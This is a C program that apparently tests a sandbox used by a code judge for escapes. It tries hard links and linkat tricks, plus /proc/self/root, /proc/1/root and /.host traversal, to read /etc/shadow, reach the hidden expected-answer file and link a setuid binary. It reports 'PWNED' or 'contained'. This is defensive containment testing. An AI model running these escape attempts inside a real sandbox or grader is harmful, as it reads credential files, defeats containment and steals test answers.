// Hard links from /box to files outside (shadow, the answer, a setuid binary), linkat of the
// stdin descriptor, and /proc/self/root, /proc/1/root and /.host directory-descriptor escapes.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int pwned = 0;

static void check_read(const char* path, const char* what) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  char buffer[256] = {0};
  ssize_t n = read(fd, buffer, sizeof buffer - 1);
  close(fd);
  if (n > 0 && (strstr(buffer, "root:") != NULL || strstr(buffer, "hx-secret-answer") != NULL)) {
    printf("PWNED-hardlink_tricks: %s via %s\n", what, path);
    pwned = 1;
  }
}

int main(void) {
  char answer[4096] = {0};
  if (readlink("/proc/self/fd/0", answer, sizeof answer - 5) > 0) {
    char* dot = strrchr(answer, '.');
    if (dot != NULL) strcpy(dot, ".ans");
  }
  if (link("/etc/shadow", "/box/h_shadow") == 0) check_read("/box/h_shadow", "link shadow");
  if (link(answer, "/box/h_answer") == 0) check_read("/box/h_answer", "link answer");
  if (link("/usr/bin/passwd", "/box/h_passwd") == 0) {
    printf("PWNED-hardlink_tricks: linked a setuid binary into /box\n");
    pwned = 1;
  }
  char host_answer[8192];
  snprintf(host_answer, sizeof host_answer, "/.host%s", answer);
  if (link(host_answer, "/box/h_host") == 0) check_read("/box/h_host", "link /.host answer");
  if (linkat(0, "", AT_FDCWD, "/box/h_stdin", AT_EMPTY_PATH) == 0) {
    printf("PWNED-hardlink_tricks: linkat(AT_EMPTY_PATH) on stdin\n");
    pwned = 1;
  }
  if (linkat(AT_FDCWD, "/proc/self/fd/0", AT_FDCWD, "/box/h_fd0", AT_SYMLINK_FOLLOW) == 0) {
    printf("PWNED-hardlink_tricks: linked stdin's host file into /box\n");
    pwned = 1;
  }
  const char* roots[] = {"/proc/self/root", "/proc/1/root", "/.host", "/proc/1/cwd"};
  for (size_t i = 0; i < 4; i++) {
    int dir = open(roots[i], O_RDONLY | O_DIRECTORY);
    if (dir < 0) continue;
    int fd = openat(dir, "../../../etc/shadow", O_RDONLY);
    if (fd >= 0) {
      char buffer[64] = {0};
      if (read(fd, buffer, sizeof buffer - 1) > 0 && strstr(buffer, "root:") != NULL) {
        printf("PWNED-hardlink_tricks: openat(%s, ../../../etc/shadow)\n", roots[i]);
        pwned = 1;
      }
      close(fd);
    }
    if (fchdir(dir) == 0) check_read("../../../../etc/shadow", roots[i]);
    close(dir);
  }
  if (!pwned) puts("contained");
  return 0;
}
